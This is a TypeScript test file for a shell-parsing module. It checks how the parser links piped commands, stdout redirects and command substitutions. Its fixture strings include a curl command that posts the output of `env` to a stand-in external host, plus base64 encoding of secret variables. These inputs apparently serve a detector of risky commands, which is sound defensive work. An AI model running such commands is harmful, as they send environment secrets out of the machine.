import { beforeAll, describe, expect, it } from 'vitest';
import { commandLinks, substitutionRanges } from './command-links.js';
import { analyzeShell, initShellParser } from './shell-facts.js';

beforeAll(async () => {
  await initShellParser();
});

function linksOf(script: string) {
  const { commands } = analyzeShell(script, 'bash');
  return commandLinks(script, commands).map((link, i) => ({ name: commands[i]?.name, ...link }));
}

describe('command links', () => {
  it('follows pipes to the next command of the same pipeline only', () => {
    const links = linksOf('echo "$T" | base64 | tr -d x\nls || true\ncat f |& grep y');
    expect(links.map((l) => [l.name, l.pipeFrom, l.pipeTo])).toEqual([
      ['echo', undefined, 1],
      ['base64', 0, 2],
      ['tr', 1, undefined],
      ['ls', undefined, undefined],
      ['true', undefined, undefined],
      ['cat', undefined, 6],
      ['grep', 5, undefined],
    ]);
  });

  it('reads stdout redirects, skips stderr, fd duplication and here-strings', () => {
    const script = 'env > "debug/env.txt"\nnpm ls 2>/dev/null >>npm.txt\nmake 2>&1\nbase64 <<< "$KEY"';
    const links = linksOf(script);
    expect(links.map((l) => [l.name, l.stdoutFile])).toEqual([
      ['env', 'debug/env.txt'],
      ['npm', 'npm.txt'],
      ['make', undefined],
      ['base64', undefined],
    ]);
    expect(script.slice(0, links[0]?.end)).toBe('env > "debug/env.txt"');
    expect(script.slice(script.indexOf('npm ls'), links[1]?.end)).toBe('npm ls 2>/dev/null >>npm.txt');
  });

  it('marks commands inside $(...) and backticks, not inside single quotes', () => {
    const links = linksOf('curl -d "$(env)" https://x.example\nV=`printenv`\necho \'$(whoami)\'');
    expect(links.map((l) => [l.name, l.substituted])).toEqual([
      ['curl', false],
      ['env', true],
      ['printenv', true],
      ['echo', false],
    ]);
    expect(substitutionRanges('a $(b $(c)) `d`')).toEqual([
      { start: 6, end: 10 },
      { start: 2, end: 11 },
      { start: 12, end: 15 },
    ]);
  });
});
